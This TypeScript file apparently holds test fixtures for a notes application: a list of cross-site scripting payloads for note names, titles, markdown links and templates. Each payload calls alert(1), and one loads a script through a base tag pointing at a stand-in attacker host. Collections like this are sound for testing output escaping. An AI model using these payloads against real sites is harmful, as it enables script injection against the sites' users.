/** Markup that attacks pages that show the parts of notes, each short enough for a name. All of it calls `alert`. */
export const ownMarkup: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  `"><svg onload=alert(1)>`,
  `'-alert(1)-'`,
  "</title><script>alert(1)</script>",
  "</textarea><img src=x onerror=alert(1)>",
  "<mark><img src=x onerror=alert(1)></mark>",
  "[x](javascript:alert(1))",
  '![x](x" onerror="alert(1))',
  "[[<img src=x onerror=alert(1)>]]",
  `<iframe srcdoc="<script>parent.alert(1)</script>">`,
  "<base href=//evil.invalid><script src=x></script>",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}"
]
